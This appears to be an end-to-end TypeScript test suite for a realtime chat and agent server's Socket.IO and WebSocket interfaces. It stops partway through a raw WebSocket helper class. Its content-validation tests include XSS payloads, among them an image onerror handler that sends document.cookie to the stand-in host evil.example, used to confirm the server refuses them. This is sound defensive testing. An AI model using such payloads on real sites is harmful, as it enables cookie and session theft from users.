import { randomBytes, randomUUID } from 'node:crypto';
import { IncomingMessage } from 'node:http';
import { connect, Socket as TcpSocket } from 'node:net';
import { WebSocket } from 'ws';
import { admin, bearer, createAgent, createApiKey, createSession, CreatedSession, http } from './utils/fixtures';
import { ADMIN_TOKEN, createTestApp, TestApp } from './utils/test-app';
import { createTestDatabase, onPostgres } from './utils/test-database';
import { within } from './utils-realtime/deadline';
import { FakeOpenAi, gate, stream } from './utils-realtime/fake-openai';
import { channelHistory, channelMessagesPath, createChannel, sessionMessagesPath } from './utils-realtime/rest';
import { ClientSocket, emitAck, EVENT_TIMEOUT_MS, expectOk, MessageBroadcast, settle, SocketPool } from './utils-realtime/sockets';
import { FRAME_TIMEOUT_MS, ofType, WsErrorFrame, WsFrame, WsPool } from './utils-ws/ws-client';

/*
 * One describe per row of issue 17's table: each drives the app the way that seed's client code
 * does — the same events, fields and filters — and fails if the server answers as it used to.
 */

const SOCKET_MESSAGE_TYPE = { ROOM_JOINING: 1, MESSAGE_SEND: 2, MESSAGE: 3, ACK: 4, THINKING: 5, CONTROL: 6 } as const;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
const ISO_8601 = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)$/;

describe('The seeds\' own clients against Switchboard', () => {
  let t: TestApp;
  const sockets = SocketPool.for(() => t);
  const ws = new WsPool(() => t);

  beforeAll(async () => {
    t = await createTestApp();
  });

  afterEach(async () => {
    sockets.closeAll();
    await ws.closeAll();
  });

  afterAll(async () => {
    await t.close();
  });

  /** A session and a socket on its token that has joined its room the typed way (seed 002's minimal client). */
  const sessionRoom = async (userId = `user-${randomUUID().slice(0, 8)}`): Promise<{ session: CreatedSession; client: ClientSocket }> => {
    const session = await createSession(t, { userId });
    const client = await sockets.connect({ token: session.token });
    await expectOk(client.socket, 'message', { type: SOCKET_MESSAGE_TYPE.ROOM_JOINING, payload: { roomId: session.sessionId, entityId: userId } });
    return { session, client };
  };

  /** Seed 002's filter: "Check if this message is for your room". */
  const forRoom = (roomId: string) => (data: { roomId?: string; channelId?: string }) => data.roomId === roomId || data.channelId === roomId;

  describe('000 resilient sender: the send response has success: true', () => {
    /** Seed 000's ResilientMessageSender.sendMessage, with attempts counted and no backoff sleeps. */
    const resilientSend = async (sessionId: string, content: string, messageId: string, maxRetries = 3) => {
      let attempts = 0;
      while (attempts < maxRetries) {
        attempts++;
        const response = await http(t).post(sessionMessagesPath(sessionId)).set(admin).send({ content, messageId });
        if (response.status >= 400) throw new Error(response.body.message);
        if (response.body.success) return { attempts, body: response.body as { id: string; success: boolean } };
      }
      return { attempts, body: undefined };
    };

    it('returns on the first attempt, and a retry with the same messageId succeeds without storing twice', async () => {
      const session = await createSession(t);
      const messageId = randomUUID();

      const first = await resilientSend(session.sessionId, 'guaranteed', messageId);
      const retried = await resilientSend(session.sessionId, 'guaranteed', messageId);

      expect(first.attempts).toBe(1);
      expect(first.body).toMatchObject({ success: true, id: expect.stringMatching(UUID) });
      expect(retried).toMatchObject({ attempts: 1, body: { success: true, id: first.body?.id } });
      const history = await http(t).get(sessionMessagesPath(session.sessionId)).set(admin).expect(200);
      expect(history.body.messages.filter((m: { isAgent: boolean }) => !m.isAgent)).toHaveLength(1);
    });
  });

  describe('000 messageBroadcast: timestamp is ISO 8601', () => {
    it('sends timestamp as an ISO 8601 string naming the same instant as createdAt', async () => {
      const { session, client } = await sessionRoom();

      await http(t).post(sessionMessagesPath(session.sessionId)).set(admin).send({ content: 'when?' }).expect(201);
      const broadcast = await client.log.next('messageBroadcast', (b) => !b.isAgent && forRoom(session.sessionId)(b));

      expect(broadcast.timestamp).toMatch(ISO_8601);
      expect(new Date(broadcast.timestamp).getTime()).toBe(new Date(broadcast.createdAt).getTime());
    });

    it('replays missed messages from the ISO timestamp a client kept from the last broadcast', async () => {
      const { session, client } = await sessionRoom();
      await expectOk(client.socket, 'message', { text: 'one', roomId: session.sessionId });
      const seen = await client.log.next('messageBroadcast', (b) => b.isAgent);
      client.socket.disconnect();

      await http(t).post(sessionMessagesPath(session.sessionId)).set(admin).send({ content: 'two' }).expect(201);
      const back = await sockets.connect({ token: session.token });
      const joined = await expectOk(back.socket, 'join', { roomId: session.sessionId, lastTimestamp: seen.timestamp });

      expect(joined.replayed).toBeGreaterThanOrEqual(1);
      expect(back.log.of('messageBroadcast').map((b) => b.text)).toContain('two');
      expect(back.log.of('messageBroadcast').map((b) => b.text)).not.toContain('one');
    });
  });

  describe('001 messageBroadcast and messageComplete: serverId', () => {
    it('sends one serverId in both, in connection_established and in world-state', async () => {
      const { session, client } = await sessionRoom();

      await expectOk(client.socket, 'message', { text: 'who serves me?', roomId: session.sessionId });
      const complete = await client.log.next('messageComplete');
      const broadcasts = client.log.of('messageBroadcast');
      const state = await expectOk(client.socket, 'request-world-state', { roomId: session.sessionId });

      expect(complete.serverId).toMatch(UUID);
      expect(broadcasts.map((b) => b.serverId)).toEqual([complete.serverId, complete.serverId]);
      expect(client.established.serverId).toBe(complete.serverId);
      expect(state.serverId).toBe(complete.serverId);
    });

    it('keeps the generated serverId across a restart, and SERVER_ID overrides it', async () => {
      const first = await createTestApp();
      const firstSockets = SocketPool.for(() => first);
      const before = (await firstSockets.connect({ token: ADMIN_TOKEN })).established.serverId;
      firstSockets.closeAll();
      await first.close({ keepDatabase: true });

      const restarted = await createTestApp({ database: first.database });
      const restartedSockets = SocketPool.for(() => restarted);
      const after = (await restartedSockets.connect({ token: ADMIN_TOKEN })).established.serverId;
      restartedSockets.closeAll();
      await restarted.close({ keepDatabase: true });

      const overridden = await createTestApp({ database: first.database, env: { SERVER_ID: 'eu-west-blue' } });
      const overriddenSockets = SocketPool.for(() => overridden);
      const channel = await createChannel(overridden);
      const client = await overriddenSockets.connect({ token: ADMIN_TOKEN });
      await expectOk(client.socket, 'join', { roomId: channel.id });
      await http(overridden).post(channelMessagesPath(channel.id)).set(admin).send({ text: 'hi', entityId: 'user-1' }).expect(201);
      const broadcast = await client.log.next('messageBroadcast');
      overriddenSockets.closeAll();
      await overridden.close();

      expect(before).toMatch(UUID);
      expect(after).toBe(before);
      expect(client.established.serverId).toBe('eu-west-blue');
      expect(broadcast.serverId).toBe('eu-west-blue');
    });
  });

  describe.skipIf(!onPostgres)('001 serverId with two instances on one database', () => {
    it('is the same on both instances: one deployment, one serverId', async () => {
      const database = await createTestDatabase();
      const first = await createTestApp({ database });
      const second = await createTestApp({ database });
      const pools = [SocketPool.for(() => first), SocketPool.for(() => second)];
      try {
        const [one, two] = await Promise.all(pools.map((pool) => pool.connect({ token: ADMIN_TOKEN })));

        expect(one.established.serverId).toMatch(UUID);
        expect(two.established.serverId).toBe(one.established.serverId);
      } finally {
        pools.forEach((pool) => pool.closeAll());
        await first.close({ keepDatabase: true });
        await second.close();
      }
    });
  });

  describe('001 world-state: { agents, users, channels, messages } for the requested roomId', () => {
    it('describes the requested room without joining it: its agent, its user, its channel and its messages', async () => {
      const agent = await createAgent(t);
      const session = await createSession(t, { agentId: agent.id, userId: 'world-user' });
      await http(t).post(sessionMessagesPath(session.sessionId)).set(admin).send({ content: 'hello world', mode: 'sync' }).expect(201);
      const client = await sockets.connect({ token: session.token });

      client.socket.emit('request-world-state', { roomId: session.sessionId });
      const state = await client.log.next('world-state');

      expect(Object.keys(state).slice(0, 4)).toEqual(['agents', 'users', 'channels', 'messages']);
      expect(state.agents).toEqual({ [agent.id]: { id: agent.id, name: agent.name, status: 'active' } });
      expect(state.users).toEqual({ 'world-user': { id: 'world-user', userId: 'world-user', rooms: [session.sessionId] } });
      expect(state.channels[session.channelId]).toMatchObject({ id: session.channelId, roomId: session.sessionId, sessionId: session.sessionId, type: 'session' });
      expect(state.messages[session.channelId].map((m) => [m.senderId, m.text])).toEqual([
        ['world-user', 'hello world'],
        [agent.id, 'You said: hello world'],
      ]);
    });

    it('refuses a room the caller may not read, with an error and no state: 404, as if it did not exist', async () => {
      const mine = await createSession(t);
      const theirs = await createSession(t);
      const client = await sockets.connect({ token: mine.token });

      const refused = await emitAck(client.socket, 'request-world-state', { roomId: theirs.sessionId });
      await settle(client.socket);

      expect(refused).toMatchObject({ ok: false, error: 'SessionNotFoundError' });
      expect(client.log.of('world-state').filter((s) => theirs.channelId in s.channels)).toEqual([]);
    });
  });

  // 001 logEntry { level: number, time, msg, agentId, agentName }: realtime.e2e-spec's 'logEntry' suite, on its app with LOG_LEVEL=warn.

  describe('002 userJoined / userLeft / userTyping: userId', () => {
    it('names the user as userId in presence and typing, as the seed\'s listeners log it', async () => {
      const { session, client: watcher } = await sessionRoom('watcher');
      const typist = await sockets.connect({ token: ADMIN_TOKEN });
      const said: string[] = [];
      watcher.socket.on('userJoined', (data: { userId: string; roomId: string }) => said.push(`User ${data.userId} joined room ${data.roomId}`));
      watcher.socket.on('userTyping', (data: { userId: string; roomId: string; isTyping: boolean }) => {
        if (data.roomId === session.sessionId) said.push(`${data.userId} is ${data.isTyping ? 'typing' : 'stopped typing'}`);
      });
      watcher.socket.on('userLeft', (data: { userId: string; roomId: string }) => said.push(`User ${data.userId} left room ${data.roomId}`));

      await expectOk(typist.socket, 'message', { type: SOCKET_MESSAGE_TYPE.ROOM_JOINING, payload: { roomId: session.sessionId } });
      await expectOk(typist.socket, 'typing', { roomId: session.sessionId, userId: 'admin', isTyping: true });
      await expectOk(typist.socket, 'leave', { roomId: session.sessionId });
      await watcher.log.next('userLeft');

      expect(said).toEqual([`User admin joined room ${session.sessionId}`, 'admin is typing', `User admin left room ${session.sessionId}`]);
    });
  });

  describe('002 message types: 3 MESSAGE, 4 ACK, 5 THINKING, 6 CONTROL', () => {
    it('stores a MESSAGE (3) like MESSAGE_SEND, and acknowledges both to the sender as ACK (4)', async () => {
      const { session, client } = await sessionRoom();

      const generic = await expectOk(client.socket, 'message', { type: SOCKET_MESSAGE_TYPE.MESSAGE, payload: { message: 'generic', roomId: session.sessionId } });
      const sent = await expectOk(client.socket, 'message', { type: SOCKET_MESSAGE_TYPE.MESSAGE_SEND, payload: { message: 'send', roomId: session.sessionId, messageId: randomUUID() } });
      await settle(client.socket);

      const acks = client.log.of('message', (m) => m.type === SOCKET_MESSAGE_TYPE.ACK);
      expect(acks.map((a) => a.payload.messageId)).toEqual([generic.messageId, sent.messageId]);
      expect(acks.every((a) => forRoom(session.sessionId)(a.payload))).toBe(true);
      const texts = (await http(t).get(sessionMessagesPath(session.sessionId)).set(admin).expect(200)).body.messages.map((m: { content: string }) => m.content);
      expect(texts).toEqual(expect.arrayContaining(['generic', 'send']));
    });

    it('passes a client\'s ACK (4), THINKING (5) and CONTROL (6) on to the room\'s other sockets, never back to the sender', async () => {
      const { session, client: user } = await sessionRoom();
      const agentSide = await sockets.connect({ token: ADMIN_TOKEN });
      await expectOk(agentSide.socket, 'message', { type: SOCKET_MESSAGE_TYPE.ROOM_JOINING, payload: { roomId: session.sessionId } });
      const messageId = randomUUID();

      const acked = await emitAck(user.socket, 'message', { type: SOCKET_MESSAGE_TYPE.ACK, payload: { roomId: session.sessionId, messageId } });
      const thinking = await emitAck(agentSide.socket, 'message', { type: SOCKET_MESSAGE_TYPE.THINKING, payload: { roomId: session.sessionId } });
      const control = await emitAck(agentSide.socket, 'message', { type: SOCKET_MESSAGE_TYPE.CONTROL, payload: { roomId: session.sessionId, action: 'disable_input' } });
      await Promise.all([settle(user.socket), settle(agentSide.socket)]);

      expect([acked.ok, thinking.ok, control.ok]).toEqual([true, true, true]);
      expect(agentSide.log.of('message').map((m) => [m.type, m.payload.messageId])).toEqual([[SOCKET_MESSAGE_TYPE.ACK, messageId]]);
      expect(user.log.of('message').map((m) => [m.type, m.payload.thinking ?? m.payload.action])).toEqual([
        [SOCKET_MESSAGE_TYPE.THINKING, true],
        [SOCKET_MESSAGE_TYPE.CONTROL, 'disable_input'],
      ]);
      expect(user.log.of('controlMessage')).toEqual([expect.objectContaining({ roomId: session.sessionId, action: 'disable_input', userId: 'admin' })]);
    });

    it('sends CONTROL (6) around an agent\'s turn, beside controlMessage', async () => {
      const { session, client } = await sessionRoom();

      await expectOk(client.socket, 'message', { type: SOCKET_MESSAGE_TYPE.MESSAGE_SEND, payload: { message: 'think', roomId: session.sessionId } });
      await client.log.next('messageComplete');
      await settle(client.socket);

      expect(client.log.of('message', (m) => m.type === SOCKET_MESSAGE_TYPE.CONTROL).map((m) => m.payload.action)).toEqual(['disable_input', 'enable_input']);
    });

    it('refuses only what the protocol does not have (type 7), and a CONTROL without its action', async () => {
      const { session, client } = await sessionRoom();

      const unknown = await emitAck(client.socket, 'message', { type: 7, payload: { roomId: session.sessionId } });
      const actionless = await emitAck(client.socket, 'message', { type: SOCKET_MESSAGE_TYPE.CONTROL, payload: { roomId: session.sessionId } });

      expect(unknown).toMatchObject({ ok: false, error: 'ValidationError' });
      expect(actionless).toMatchObject({ ok: false, error: 'MissingFieldsError' });
    });
  });

  describe('002 minimal client: roomId may be the agent\'s id', () => {
    /** Seed 002's minimal client: joins `roomId` on connect, keeps the broadcasts its filter accepts. */
    const minimalClient = async (token: string, entityId: string, roomId: string) => {
      const client = await sockets.connect({ token });
      const received: MessageBroadcast[] = [];
      client.socket.on('messageBroadcast', (data: MessageBroadcast) => {
        if (data.roomId === roomId || data.channelId === roomId) received.push(data);
      });
      const joined = await expectOk(client.socket, 'message', { type: SOCKET_MESSAGE_TYPE.ROOM_JOINING, payload: { roomId, entityId } });
      const sendMessageToEliza = (text: string) =>
        expectOk(client.socket, 'message', {
          type: SOCKET_MESSAGE_TYPE.MESSAGE_SEND,
          payload: { senderId: entityId, senderName: 'Extension User', message: text, roomId, messageId: randomUUID(), source: 'extension', attachments: [], metadata: {} },
        });
      return { client, received, joined, sendMessageToEliza };
    };

    it('opens the caller\'s direct channel with the agent on first join, and the agent answers there', async () => {
      const agent = await createAgent(t);
      const key = await createApiKey(t, ['messaging:read', 'messaging:write']);
      const extension = await minimalClient(key.token, key.id, agent.id);

      await extension.sendMessageToEliza('Hello from extension!');
      await extension.client.log.next('messageComplete');
      await settle(extension.client.socket);

      expect(extension.joined).toMatchObject({ ok: true, roomId: agent.id, channelId: expect.stringMatching(UUID) });
      expect(extension.received.map((b) => [b.senderId, b.text])).toEqual([
        [key.id, 'Hello from extension!'],
        [agent.id, 'You said: Hello from extension!'],
      ]);
      const channel = await http(t).get(`/api/channels/${extension.joined.channelId as string}`).set(admin).expect(200);
      expect(channel.body.participants).toEqual(
        expect.arrayContaining([
          { entityId: key.id, kind: 'user' },
          { entityId: agent.id, kind: 'agent' },
        ]),
      );
    });

    it('brings the same caller back to the same channel, and another caller to a channel of its own', async () => {
      const agent = await createAgent(t);
      const key = await createApiKey(t, ['messaging:read', 'messaging:write']);
      const other = await createApiKey(t, ['messaging:read', 'messaging:write']);
      const first = await minimalClient(key.token, key.id, agent.id);
      await first.sendMessageToEliza('remember me');
      await first.client.log.next('messageComplete');

      const [again, stranger] = await Promise.all([minimalClient(key.token, key.id, agent.id), minimalClient(other.token, other.id, agent.id)]);
      const state = await expectOk(again.client.socket, 'request-world-state', { roomId: agent.id });

      expect(again.joined.channelId).toBe(first.joined.channelId);
      expect(stranger.joined.channelId).not.toBe(first.joined.channelId);
      expect((state.messages as Record<string, MessageBroadcast[]>)[first.joined.channelId as string].map((m) => m.text)).toEqual(['remember me', 'You said: remember me']);
      expect(await channelHistory(t, stranger.joined.channelId as string)).toEqual([]);
    });

    it.skipIf(!onPostgres)('keeps the agent\'s id as roomId for what another instance sends into the direct channel', async () => {
      const database = await createTestDatabase();
      const env = { REDIS_URL: 'redis://127.0.0.1:6379', REDIS_KEY_PREFIX: `sb-direct-${process.pid}-${randomBytes(4).toString('hex')}` };
      const joinedOn = await createTestApp({ database, env });
      const sentOn = await createTestApp({ database, env });
      const pool = SocketPool.for(() => joinedOn);
      try {
        const agent = await createAgent(joinedOn);
        const key = await createApiKey(joinedOn, ['messaging:read', 'messaging:write']);
        const client = await pool.connect({ token: key.token });
        const received: Array<{ event: string; roomId: string }> = [];
        for (const event of ['messageBroadcast', 'messageComplete', 'controlMessage']) {
          client.socket.on(event, (data: { roomId: string; channelId: string }) => {
            if (data.roomId === agent.id || data.channelId === agent.id) received.push({ event, roomId: data.roomId });
          });
        }
        const joined = await expectOk(client.socket, 'message', { type: SOCKET_MESSAGE_TYPE.ROOM_JOINING, payload: { roomId: agent.id } });

        await http(sentOn).post(channelMessagesPath(joined.channelId as string)).set(admin).send({ text: 'from the other instance', entityId: key.id }).expect(201);
        await client.log.next('messageComplete');
        await settle(client.socket);

        expect(received.map((r) => r.event)).toEqual(['messageBroadcast', 'controlMessage', 'messageBroadcast', 'messageComplete', 'controlMessage']);
        expect(received.every((r) => r.roomId === agent.id)).toBe(true);
      } finally {
        pool.closeAll();
        await joinedOn.close({ keepDatabase: true });
        await sentOn.close();
      }
    });

    it('applies the same access rules as any room: no messaging:read, no direct channel', async () => {
      const agent = await createAgent(t);
      const key = await createApiKey(t, ['agents:read']);
      const client = await sockets.connect({ token: key.token });

      const refused = await emitAck(client.socket, 'message', { type: SOCKET_MESSAGE_TYPE.ROOM_JOINING, payload: { roomId: agent.id } });
      const unknown = await emitAck((await sockets.connect({ token: ADMIN_TOKEN })).socket, 'join', { roomId: randomUUID() });

      expect(refused).toMatchObject({ ok: false, error: 'ForbiddenError' });
      expect(unknown).toMatchObject({ ok: false, error: 'ChannelNotFoundError' });
    });
  });

  describe('003 heartbeat: the server sends {type:"ping"}, the client answers {type:"pong"}', () => {
    let beating: TestApp;
    const beatingWs = new WsPool(() => beating);

    beforeAll(async () => {
      beating = await createTestApp({ env: { WS_HEARTBEAT_SECONDS: '1' } });
    });

    afterAll(async () => {
      await beatingWs.closeAll();
      await beating.close();
    });

    it('keeps a client that answers only the JSON pings, as seed 003\'s handler does, and never calls its pong an error', async () => {
      const client = await beatingWs.connect({ token: ADMIN_TOKEN, autoPong: false });
      client.socket.on('message', (data) => {
        const message = JSON.parse(data.toString()) as WsFrame;
        if (message.type === 'ping') client.socket.send(JSON.stringify({ type: 'pong' }));
      });

      for (let beat = 0; beat < 3; beat++) await client.next(ofType('ping'), 3_000, `heartbeat ${beat + 1}`);
      await client.barrier();

      expect(client.isOpen).toBe(true);
      expect(client.all(ofType('error'))).toEqual([]);
    });
  });

  describe('003 priority: low | normal | high, validated and honoured', () => {
    let fake: FakeOpenAi;

    beforeAll(async () => {
      fake = await FakeOpenAi.start(stream('done'));
    });

    afterAll(async () => {
      await fake.close();
    });

    it('refuses a priority the protocol does not have', async () => {
      const client = await ws.connect({ token: ADMIN_TOKEN });

      const refused = (await client.call({ type: 'ping', priority: 'bogus' })) as WsErrorFrame;

      expect(refused.type).toBe('error');
      expect(refused.data).toMatchObject({ code: 'INVALID_MESSAGE', details: 'priority must be one of low, normal, high' });
    });

    it('runs an agent\'s waiting commands high before normal before low', async () => {
      const agent = await createAgent(t, { runtime: { provider: 'openai', model: 'm', baseUrl: fake.baseUrl } });
      const busy = gate();
      fake.reply({ kind: 'stream', chunks: ['first done'], hold: busy.promise });
      const client = await ws.connect({ token: ADMIN_TOKEN });
      const command = (instruction: string, priority?: string) => client.request({ type: 'command', targetAgent: agent.id, priority, data: { instruction } });

      const first = command('first');
      await client.next((f) => f.id === first && f.data.status === 'running');
      const waiting: Array<string | number> = [];
      // One after the other, so that "first come" is unambiguous between the two normal ones.
      for (const [instruction, priority] of [['low one', 'low'], ['normal one', 'normal'], ['high one', 'high'], ['unmarked one', undefined]]) {
        const id = command(instruction as string, priority);
        await client.next((f) => f.id === id && f.data.status === 'queued');
        waiting.push(id);
      }
      busy.open();
      const completed: Array<string | number | undefined> = [];
      for (let i = 0; i < 5; i++) completed.push((await client.next((f) => f.type === 'command_result' && f.data.status === 'completed', 5_000)).id);

      expect(completed).toEqual([first, waiting[2], waiting[1], waiting[3], waiting[0]]);
      expect(fake.requests.map((r) => r.body.messages?.at(-1)?.content)).toEqual(['first', 'high one', 'normal one', 'unmarked one', 'low one']);
      const stored = await http(t).get(`/api/agents/${agent.id}/commands`).set(admin).expect(200);
      expect(stored.body.commands.map((c: { instruction: string; priority: string }) => [c.instruction, c.priority]).sort()).toEqual([
        ['first', 'normal'],
        ['high one', 'high'],
        ['low one', 'low'],
        ['normal one', 'normal'],
        ['unmarked one', 'normal'],
      ]);
    });
  });

  describe('003 error details: a string', () => {
    it('says what is wrong in details, as the seed shows it, and keeps the structured facts in context', async () => {
      const client = await ws.connect({ token: ADMIN_TOKEN });

      const refused = (await client.call({ type: 'command', data: { instruction: 'do it' } })) as WsErrorFrame;

      expect(refused.data).toEqual({
        code: 'INVALID_MESSAGE',
        message: 'Message format is invalid',
        details: 'Missing required field: targetAgent',
        context: { reason: 'Missing required field: targetAgent' },
      });
    });
  });

  describe('000 / 003 scaling: per-message compression', () => {
    it('negotiates permessage-deflate on /ws and Socket.IO, and compresses /ws frames above the threshold only', async () => {
      const url = await t.app.getUrl();
      const wsUpgrade = await RawClient.open(url, `/ws?token=${ADMIN_TOKEN}`);
      const ioUpgrade = await RawClient.open(url, `/socket.io/?EIO=4&transport=websocket`);

      const small = await wsUpgrade.nextFrame();
      wsUpgrade.send(JSON.stringify({ id: 'x'.repeat(2_000), type: 'ping' }));
      const large = await wsUpgrade.nextFrame();
      wsUpgrade.close();
      ioUpgrade.close();

      expect(wsUpgrade.response.headers['sec-websocket-extensions']).toContain('permessage-deflate');
      expect(ioUpgrade.response.headers['sec-websocket-extensions']).toContain('permessage-deflate');
      expect(small.compressed).toBe(false);
      expect(large.compressed).toBe(true);
      expect(large.payloadBytes).toBeLessThan(1_000);
    });

    it('compresses Socket.IO frames above the threshold only', async () => {
      const channel = await createChannel(t);
      const io = await RawClient.open(await t.app.getUrl(), `/socket.io/?EIO=4&transport=websocket`);
      const long = 'y'.repeat(2_000);

      const open = await io.nextFrame();
      io.send(`40${JSON.stringify({ token: ADMIN_TOKEN })}`);
      const established = await io.nextFrame((f) => f.text?.startsWith('42["connection_established"') ?? false);
      io.send(`421${JSON.stringify(['join', { roomId: channel.id }])}`);
      await io.nextFrame((f) => f.text?.startsWith('431') ?? false);
      io.send(`422${JSON.stringify(['message', { text: long, roomId: channel.id }])}`);
      const broadcast = await io.nextFrame((f) => f.compressed);
      io.close();

      expect([open.compressed, established.compressed]).toEqual([false, false]);
      expect(broadcast.payloadBytes).toBeLessThan(1_000);
    });

    it('does not compress with WS_COMPRESSION_THRESHOLD_BYTES=0', async () => {
      const plain = await createTestApp({ env: { WS_COMPRESSION_THRESHOLD_BYTES: '0' } });
      const url = await plain.app.getUrl();
      const wsUpgrade = await RawClient.open(url, `/ws?token=${ADMIN_TOKEN}`);
      const ioUpgrade = await RawClient.open(url, `/socket.io/?EIO=4&transport=websocket`);
      wsUpgrade.close();
      ioUpgrade.close();
      await plain.close();

      expect(wsUpgrade.response.headers['sec-websocket-extensions']).toBeUndefined();
      expect(ioUpgrade.response.headers['sec-websocket-extensions']).toBeUndefined();
    });
  });

  describe('000 security: origin validation on socket connections', () => {
    let guarded: TestApp;
    const guardedSockets = SocketPool.for(() => guarded);
    const ALLOWED = 'https://app.example';

    beforeAll(async () => {
      guarded = await createTestApp({ env: { CORS_ORIGINS: `${ALLOWED},https://admin.example` } });
    });

    afterEach(() => guardedSockets.closeAll());

    afterAll(async () => {
      await guarded.close();
    });

    const openWs = async (origin?: string): Promise<'open' | number> => {
      const socket = new WebSocket(`${(await guarded.app.getUrl()).replace('http', 'ws')}/ws`, { headers: bearer(ADMIN_TOKEN), ...(origin ? { origin } : {}) });
      const outcome = new Promise<'open' | number>((resolve, reject) => {
        socket.once('open', () => resolve('open'));
        socket.once('unexpected-response', (_, response: IncomingMessage) => resolve(response.statusCode ?? 0));
        socket.once('error', reject);
      });
      try {
        return await within(outcome, FRAME_TIMEOUT_MS, 'the /ws upgrade');
      } finally {
        socket.terminate();
      }
    };

    it('refuses a Socket.IO connection from an unlisted browser origin, and accepts a listed one and one with no Origin', async () => {
      const refused = await guardedSockets.refusal({ token: ADMIN_TOKEN, headers: { Origin: 'https://evil.example' } });
      const refusedPolling = await guardedSockets.refusal({ token: ADMIN_TOKEN, headers: { Origin: 'https://evil.example' }, transports: ['polling'] });
      const listed = await guardedSockets.connect({ token: ADMIN_TOKEN, headers: { Origin: ALLOWED } });
      const server = await guardedSockets.connect({ token: ADMIN_TOKEN });

      expect(refused).toBeInstanceOf(Error);
      expect(refusedPolling).toBeInstanceOf(Error);
      expect(listed.socket.connected).toBe(true);
      expect(server.socket.connected).toBe(true);
    });

    it('refuses a /ws upgrade from an unlisted browser origin with 403, and accepts a listed one and one with no Origin', async () => {
      expect(await openWs('https://evil.example')).toBe(403);
      expect(await openWs(ALLOWED)).toBe('open');
      expect(await openWs()).toBe('open');
    });

    it('lets every origin through when CORS_ORIGINS is unset', async () => {
      const client = await sockets.connect({ token: ADMIN_TOKEN, headers: { Origin: 'https://anywhere.example' } });

      expect(client.socket.connected).toBe(true);
    });
  });

  describe('004 validation: no executable code or scripts in content', () => {
    const ATTACK = '<script>alert(document.cookie)</script>';

    it('refuses a script in a session message with 400 InvalidContentError, and neither stores nor broadcasts it', async () => {
      const { session, client } = await sessionRoom();

      const refused = await http(t).post(sessionMessagesPath(session.sessionId)).set(admin).send({ content: ATTACK }).expect(400);
      const inStream = await http(t).post(sessionMessagesPath(session.sessionId)).set(admin).send({ content: ATTACK, mode: 'stream' }).expect(400);
      await settle(client.socket);

      expect(refused.body).toEqual({ error: 'InvalidContentError', code: 'INVALID_CONTENT', message: expect.any(String), details: { activeMarkup: 'script' } });
      expect(inStream.body.error).toBe('InvalidContentError');
      expect((await http(t).get(sessionMessagesPath(session.sessionId)).set(admin).expect(200)).body.messages).toEqual([]);
      expect(client.log.of('messageBroadcast')).toEqual([]);
    });

    it.each([
      ['an event handler', '<img src=x onerror="fetch(\'//evil.example?c=\'+document.cookie)">', 'event-handler'],
      ['a javascript: link', '[win a prize](javascript:alert(1))', 'script-url'],
      ['an iframe', '<iframe src="https://evil.example"></iframe>', 'iframe'],
      ['an object', '<object data="evil.swf"></object>', 'object'],
    ])('refuses %s on a channel, over Socket.IO and over /ws', async (_case, content, activeMarkup) => {
      const agent = await createAgent(t);
      const channel = await createChannel(t, { agentIds: [agent.id] });
      const io = await sockets.connect({ token: ADMIN_TOKEN });
      const plain = await ws.connect({ token: ADMIN_TOKEN });

      const rest = await http(t).post(channelMessagesPath(channel.id)).set(admin).send({ text: content, entityId: 'user-1' }).expect(400);
      const socket = await emitAck(io.socket, 'message', { text: content, roomId: channel.id });
      const chat = (await plain.call({ type: 'chat', targetAgent: agent.id, data: { message: content, conversationId: channel.id } })) as WsErrorFrame;

      expect(rest.body).toMatchObject({ error: 'InvalidContentError', details: { activeMarkup } });
      expect(socket).toMatchObject({ ok: false, error: 'InvalidContentError', code: 'INVALID_CONTENT', details: { activeMarkup } });
      expect(chat.data).toMatchObject({ code: 'INVALID_MESSAGE', context: { error: 'InvalidContentError', activeMarkup } });
      expect(await channelHistory(t, channel.id)).toEqual([]);
    });

    it('lets people talk about code: plain code text and Markdown code spans and blocks are stored as sent', async () => {
      const session = await createSession(t);
      const texts = [
        'if (a < b && b > c) { el.onclick = go; }',
        'Put `<script src="app.js"></script>` at the end of the body.',
        'This is XSS:\n```html\n<img src=x onerror=alert(1)>\n```',
      ];

      for (const content of texts) await http(t).post(sessionMessagesPath(session.sessionId)).set(admin).send({ content }).expect(201);

      const stored = (await http(t).get(sessionMessagesPath(session.sessionId)).set(admin).expect(200)).body.messages as Array<{ content: string; isAgent: boolean }>;
      expect(stored.filter((m) => !m.isAgent).map((m) => m.content).reverse()).toEqual(texts);
    });

    it('stores it as sent with CONTENT_POLICY=off', async () => {
      const open = await createTestApp({ env: { CONTENT_POLICY: 'off' } });
      const session = await createSession(open);

      const sent = await http(open).post(sessionMessagesPath(session.sessionId)).set(admin).send({ content: ATTACK }).expect(201);
      await open.close();

      expect(sent.body).toMatchObject({ success: true, content: ATTACK });
    });
  });
});

interface RawFrame {
  compressed: boolean;
  payloadBytes: number;
  /** The text of an uncompressed frame. */
  text: string | null;
}

/** A hand-written WebSocket upgrade offering permessage-deflate, reading server frames with their RSV1 (compressed) bit. */
class RawClient {
  private buffer = Buffer.alloc(0);
  private readonly frames: RawFrame[] = [];
  private readonly wakers = new Set<() => void>();

  private constructor(
    private readonly socket: TcpSocket,
    readonly response: { status: number; headers: Record<string, string> },
    rest: Buffer,
  ) {
    socket.on('data', (chunk: Buffer) => this.receive(chunk));
    this.receive(rest);
  }

  static async open(httpUrl: string, path: string): Promise<RawClient> {
    const { hostname, port } = new URL(httpUrl);
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    await within(new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('error', reject)), EVENT_TIMEOUT_MS, 'a TCP connection');
    socket.write(
      [
        `GET ${path} HTTP/1.1`,
        `Host: ${hostname}:${port}`,
        'Upgrade: websocket',
        'Connection: Upgrade',
        `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits',
        '',
        '',
      ].join('\r\n'),
    );
    let head = Buffer.alloc(0);
    const raw = await within(
      new Promise<Buffer>((resolve) => {
        const onData = (chunk: Buffer) => {
          head = Buffer.concat([head, chunk]);
          if (head.indexOf('\r\n\r\n') < 0) return;
          socket.off('data', onData);
          resolve(head);
        };
        socket.on('data', onData);
      }),
      EVENT_TIMEOUT_MS,
      'the upgrade response',
    );
